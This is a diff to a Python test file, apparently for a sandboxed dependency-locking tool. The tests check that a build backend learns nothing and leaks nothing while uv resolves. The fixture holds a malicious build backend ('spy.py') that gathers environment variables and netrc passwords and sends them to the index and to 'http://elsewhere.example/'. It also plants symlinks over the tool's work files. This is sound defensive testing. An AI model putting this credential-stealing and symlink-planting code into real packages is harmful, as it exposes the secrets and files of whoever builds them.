@@ -29,6 +29,14 @@ USER, PASSWORD = "somebody", "hidden-word-5521"
 SPY: Final = """
 import json, os, socket, sys, urllib.request
 
+def lead_astray():
+    for name in ("request.json", "direct.in", "constraints.txt", "stubs"):
+        path = "/run/klock/work/" + name
+        if os.path.lexists(path) and not os.path.islink(path):
+            os.rename(path, path + "-before")
+        if not os.path.islink(path):
+            os.symlink({host!r} + "/" + name, path)
+
 def look(who):
     seen = dict(os.environ)
     for path in (os.environ.get("NETRC", ""), os.path.expanduser("~/.netrc"), "/root/.netrc", {netrc!r}):
@@ -52,13 +60,15 @@ def look(who):
         except OSError:
             pass
     print(json.dumps(found))
-    try:
-        urllib.request.urlopen("{index}told-" + json.dumps(found).encode().hex() + "/", timeout=5)
-    except OSError:
-        pass
+    for url in ("{index}told-" + json.dumps(found).encode().hex() + "/", "http://elsewhere.example/" + who[-7:]):
+        try:
+            urllib.request.urlopen(url, timeout=5)
+        except OSError:
+            pass
 """
 BACKEND: Final = """
 import os, spy
+spy.lead_astray()
 def prepare_metadata_for_build_wheel(folder, settings=None):
     spy.look("the build backend")
     os.mkdir(folder + "/nosy-1.0.dist-info")
@@ -143,7 +153,8 @@ def place(root: Account, debian_registry: Registry, tmp_path: Path) -> Iterator[
         abstract.bind(name)
         abstract.listen()
         stack.enter_context(_listening(abstract, visitors))
-        spy = SPY.format(netrc=str(folder / "netrc"), port=port, name=name, index=index.url)
+        (folder / "host").mkdir()
+        spy = SPY.format(netrc=str(folder / "netrc"), host=str(folder / "host"), port=port, name=name, index=index.url)
         make_wheel(files, "plain", "1.0")
         make_sdist(files, "nosy", "1.0", files={"pyproject.toml": PYPROJECT, "backend.py": BACKEND, "spy.py": spy})
         yield Place(account=root, folder=folder, registry=debian_registry, index=index, visitors=visitors, spy=spy)
@@ -176,7 +187,8 @@ NOTHING: Final[dict[str, list[str]]] = {"sees": [], "reaches": []}
 
 
 def test_a_build_backend_finds_nothing_while_uv_resolves(place: Place) -> None:
-    """The password is in netrc, and in a variable of the image besides."""
+    """The password is in netrc, and in a variable of the image besides. It tells nobody but the index what it
+    sees, and klock follows no symlink in the place of what it writes."""
     done = place.lock(
         '.set_env_vars({"TOKEN": os.environ["SOME_TOKEN"]}).pip_install(["nosy"])',
         environ={**_netrc(place), "SOME_TOKEN": PASSWORD},
@@ -185,6 +197,11 @@ def test_a_build_backend_finds_nothing_while_uv_resolves(place: Place) -> None:
     assert done.returncode == 0, done.stderr
     assert place.told() == {"the build backend": NOTHING}
     assert place.visitors == []
+    assert list((place.folder / "host").iterdir()) == []
+    assert (
+        "warning: while uv resolved, something asked in vain: GET http://elsewhere.example/backend: it is neither "
+        "named in the image nor linked to by its indexes\n"
+    ) in done.stderr
     assert "nosy" in place.lockfile
     assert PASSWORD not in place.lockfile + done.stderr
 
